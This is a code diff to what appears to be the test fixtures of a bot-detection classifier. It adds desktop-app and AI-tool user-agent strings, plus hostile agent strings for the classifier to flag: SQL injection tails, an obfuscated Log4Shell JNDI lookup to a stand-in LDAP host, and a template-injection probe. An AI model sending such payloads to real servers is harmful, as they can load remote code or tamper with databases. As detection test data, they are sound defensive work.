@@ -83,6 +83,10 @@ PEOPLE = {
     "Electron": [
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.29.149 Chrome/108.0.5359.179 Electron/22.1.0 Safari/537.36",
         "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.85.1 Chrome/114.0.5735.289 Electron/25.9.7 Safari/537.36",
+        # desktop apps named like a crawler-list entry or an AI fetcher
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Notion/2.3.2 Chrome/120.0.0.0 Electron/28.1.0 Safari/537.36",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Claude/0.7.8 Chrome/128.0.6613.36 Electron/32.0.1 Safari/537.36",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Windsurf/1.2.6 Chrome/128.0.6613.186 Electron/32.2.6 Safari/537.36",
     ],
     # WebViews with unusual tokens, and device models with bot-like words in them
     "WebView and device names": [
@@ -195,6 +199,9 @@ BOTS = {
         "${jndi:ldap://198.51.100.7:1389/a}",
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' UNION SELECT 1,2,3--",
         "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36' AND 1=1 --",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 ${${::-j}${::-n}di:ldap://198.51.100.7/a}",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 ${7*7}",
     ],
     # uptime and diagnostics agents
     "diagnostics": [
@@ -208,6 +215,7 @@ BOTS = {
         "GitHub-Copilot/1.155.0",
         "aider/0.86.1",
         "Cline/3.17.0",
+        "codex_cli_rs/0.46.0 (Mac OS 15.6.1; arm64) iTerm.app/3.5.10",
     ],
     # link fetchers and libraries whose tokens were narrowed to keep the people above
     "narrowed token": [
